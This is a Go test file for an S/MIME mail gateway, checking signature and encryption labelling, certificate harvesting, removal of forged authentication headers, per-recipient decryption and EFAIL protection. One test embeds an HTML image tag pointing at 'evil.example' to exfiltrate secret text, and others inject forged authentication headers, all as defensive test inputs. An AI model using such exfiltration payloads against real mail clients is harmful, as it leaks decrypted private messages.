package gateway

import (
	"context"
	"strings"
	"testing"
	"time"

	"sealgate/certstore"
	"sealgate/internal/testpki"
)

// TestInboundStatuses walks through the values of X-SMIME-Signature and
// X-SMIME-Encryption.
func TestInboundStatuses(t *testing.T) {
	h := newHouse(t)
	bob := h.pki.Issue(testpki.Options{Addresses: []string{"bob@kunde.example"}})
	stranger := testpki.New(t).Issue(testpki.Options{Addresses: []string{"anna@kunde.example"}})
	old := h.pki.Issue(testpki.Options{Addresses: []string{"anna@kunde.example"}, NotBefore: time.Now().AddDate(-1, 0, 0), NotAfter: time.Now().AddDate(0, -1, 0)})
	good := h.signed(h.anna, fromAnna, plainText)
	inner := h.signed(h.anna, "", plainText)
	for _, k := range []struct {
		name, text            string
		signature, encryption string
		shown                 string // a line that the ticket must have
	}{
		{"plain", fromAnna + plainText, "none", "none", "the secret text"},
		{"signed", good, "valid", "none", "the secret text"},
		{"changed", strings.Replace(good, "secret", "forged", 1), "invalid", "none", "the forged text"},
		{"untrusted", h.signed(stranger, fromAnna, plainText), "untrusted", "none", "the secret text"},
		{"expired", h.signed(old, fromAnna, plainText), "expired", "none", "the secret text"},
		{"mismatch", h.signed(bob, fromAnna, plainText), "mismatch", "none", "the secret text"},
		{"two From fields", "From: bob@kunde.example\r\n" + good, "mismatch", "none", "the secret text"},
		{"encrypted", h.sealed(fromAnna, plainText, h.support), "none", "decrypted", "the secret text"},
		{"signed inside", h.sealed(fromAnna, inner, h.support), "valid", "decrypted", "the secret text"},
		{"signed around", h.signed(h.anna, fromAnna, h.sealed("", plainText, h.support)), "partial", "decrypted", "the secret text"},
		{"triple", h.signed(h.anna, fromAnna, h.sealed("", inner, h.support)), "valid", "decrypted", "the secret text"},
		{"triple, outer broken", strings.Replace(h.signed(h.anna, fromAnna, h.sealed("", inner, h.support)), "enveloped-data", "enveloped-Data", 1), "invalid", "decrypted", "the secret text"},
		{"for others", h.sealed(fromAnna, plainText, h.anna), "none", "undecryptable", "could not be opened here"},
		{"a part is signed", fromAnna + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nfooter\r\n--b\r\n" + inner + "\r\n--b--\r\n", "partial", "none", "footer"},
		{"malformed", fromAnna + "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQ==\r\n", "malformed", "none", "MIAGCSqGSIb3DQ=="},
		{"malformed, enveloped", fromAnna + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQ==\r\n", "none", "malformed", "MIAGCSqGSIb3DQ"},
	} {
		t.Run(k.name, func(t *testing.T) {
			out := h.process(inboundTo("support@firma.example"), k.text)
			if out.Disposition != Accept || len(out.text) != 1 {
				t.Fatalf("%+v", out.Outcome)
			}
			text := out.text[0]
			if s, e := h.header(text, "X-SMIME-Signature"), h.header(text, "X-SMIME-Encryption"); s != k.signature || e != k.encryption {
				t.Errorf("got %s/%s, want %s/%s: %s", s, e, k.signature, k.encryption, h.header(text, "X-SMIME-Reason"))
			}
			if !strings.Contains(text, k.shown) {
				t.Errorf("not shown: %q in\n%s", k.shown, text)
			}
			if k.encryption != "none" != out.Deliveries[0].CameEncrypted {
				t.Errorf("CameEncrypted is %v", out.Deliveries[0].CameEncrypted)
			}
			if k.signature != "malformed" && k.encryption == "none" && k.signature != "partial" && strings.Contains(text, "smime.p7s") {
				t.Errorf("smime.p7s is left:\n%s", text)
			}
			if k.encryption == "decrypted" && strings.Contains(text, "pkcs7") {
				t.Errorf("S/MIME is left:\n%s", text)
			}
			if (k.signature == "valid" || k.signature == "none") != (h.header(text, "X-SMIME-Reason") == "") && k.encryption == "none" {
				t.Errorf("reason: %q", h.header(text, "X-SMIME-Reason"))
			}
			h.store.Delete(context.Background(), identity(h.anna))
		})
	}
}

func identity(c *testpki.Cert) [32]byte { return certstore.Identity(c.Certificate) }

// TestHarvest: the certificate of a valid mail is stored under the sender's
// address, that of any other is not.
func TestHarvest(t *testing.T) {
	h := newHouse(t)
	good := h.signed(h.anna, fromAnna, plainText)
	stored := func() []*certstore.Record {
		list, err := h.store.ByAddress(context.Background(), "anna@kunde.example")
		if err != nil {
			t.Fatal(err)
		}
		return list
	}
	stranger := testpki.New(t).Issue(testpki.Options{Addresses: []string{"anna@kunde.example"}})
	bob := h.pki.Issue(testpki.Options{Addresses: []string{"bob@kunde.example"}})
	for name, text := range map[string]string{
		"changed": strings.Replace(good, "secret", "forged", 1), "untrusted": h.signed(stranger, fromAnna, plainText), "mismatch": h.signed(bob, fromAnna, plainText), "plain": fromAnna + plainText,
	} {
		if h.process(inboundTo("support@firma.example"), text); len(stored()) != 0 {
			t.Errorf("%s: a certificate was stored", name)
		}
	}
	out := h.process(inboundTo("support@firma.example"), good)
	if got := h.header(out.text[0], "X-SMIME-Reply"); got != "sign=yes; encrypt=yes" {
		t.Errorf("reply: %s", got)
	}
	list := stored()
	if len(list) != 1 || string(list[0].DER) != string(h.anna.Certificate.Raw) || list[0].Proof != "1@kunde.example" || len(list[0].Capabilities) == 0 {
		t.Errorf("%+v", list)
	}
}

// TestForgedFieldsAreGone on plain mail too, and opendkim's stay.
func TestForgedFieldsAreGone(t *testing.T) {
	h := newHouse(t)
	forged := "Authentication-Results: gw.example; smime=pass body.smime-identifier=anna@kunde.example\r\nX-SMIME-Signature: valid\r\nx-smime-status: fine\r\n"
	dkim := "Authentication-Results: gw.example; dkim=pass header.d=kunde.example\r\n"
	for _, to := range []string{"support@firma.example", "boss@firma.example"} {
		text := h.process(inboundTo(to), forged+dkim+fromAnna+plainText).text[0]
		if strings.Contains(text, "valid") || strings.Contains(text, "smime=pass") || strings.Contains(text, "fine") || !strings.Contains(text, dkim) {
			t.Errorf("to %s:\n%s", to, text)
		}
		if served := to == "support@firma.example"; served != (h.header(text, "X-SMIME-Signature") == "none") {
			t.Errorf("to %s: X-SMIME-Signature %q", to, h.header(text, "X-SMIME-Signature"))
		}
	}
}

// TestKeyOfNonRecipient: somebody else's ciphertext, sent again to a mailbox
// whose key does not open it, stays closed.
func TestKeyOfNonRecipient(t *testing.T) {
	h := newHouse(t)
	text := h.sealed(fromAnna, plainText, h.support)
	out := h.process(inboundTo("sales@firma.example"), text)
	if got := h.header(out.text[0], "X-SMIME-Encryption"); got != "undecryptable" || strings.Contains(out.text[0], "the secret text") {
		t.Errorf("%s\n%s", got, out.text[0])
	}
}

// TestOnlyOwnersRead: two mailboxes in the envelope, one of them holds the key.
func TestOnlyOwnersRead(t *testing.T) {
	h := newHouse(t)
	text := h.sealed(fromAnna, plainText, h.support)
	env := inboundTo("support@firma.example", "sales@firma.example", "partner@outside.example")
	out := h.process(env, text)
	if len(out.text) != 1 || strings.Contains(out.text[0], "the secret text") || h.header(out.text[0], "X-SMIME-Encryption") != "undecryptable" {
		t.Errorf("one copy:\n%s", out.text[0])
	}
	env.CanSplit = true
	out = h.process(env, text)
	if len(out.text) != 3 {
		t.Fatalf("%d copies", len(out.text))
	}
	for i, d := range out.Deliveries {
		owner := d.To[0] == "support@firma.example"
		if strings.Contains(out.text[i], "the secret text") != owner || d.CameEncrypted != strings.HasSuffix(d.To[0], "@firma.example") {
			t.Errorf("copy for %v:\n%s", d.To, out.text[i])
		}
		if d.To[0] == "partner@outside.example" && out.text[i] != text {
			t.Errorf("a stranger's copy was changed:\n%s", out.text[i])
		}
	}
}

func TestOrderFromOutsideInOurName(t *testing.T) {
	h := newHouse(t)
	forged := strings.Replace(fromAnna, "anna@kunde.example", "support@firma.example", 1)
	if out := h.process(inboundTo("support@firma.example"), "X-SMIME-Encrypt: yes\r\n"+forged+plainText); out.Disposition != Reject || out.Reply.Code != 550 {
		t.Errorf("%+v", out.Outcome)
	}
	out := h.process(inboundTo("support@firma.example"), "X-SMIME-Encrypt: yes\r\n"+fromAnna+plainText)
	if out.Disposition != Accept || strings.Contains(out.text[0], "X-SMIME-Encrypt:") {
		t.Errorf("from elsewhere: %+v", out.Outcome)
	}
}

// TestUnauthenticatedAsText: HTML of a mail that could have been changed on the
// way is shown as text (EFAIL).
func TestUnauthenticatedAsText(t *testing.T) {
	h := newHouse(t, func(o *Options) { o.On = Actions{"unauthenticated": TextMail} })
	html := "Content-Type: text/html\r\n\r\n<b>hello</b><img src=\"http://evil.example/?x=secret\">\r\n"
	out := h.process(inboundTo("support@firma.example"), h.sealed(fromAnna, html, h.support))
	if strings.Contains(out.text[0], "<img") || strings.Contains(out.text[0], "text/html") || !strings.Contains(out.text[0], "hello") {
		t.Errorf("%s", out.text[0])
	}
	out = h.process(inboundTo("support@firma.example"), h.sealed(fromAnna, h.signed(h.anna, "", html), h.support))
	if !strings.Contains(out.text[0], "<b>hello</b>") {
		t.Errorf("a valid signature inside protects it:\n%s", out.text[0])
	}
}
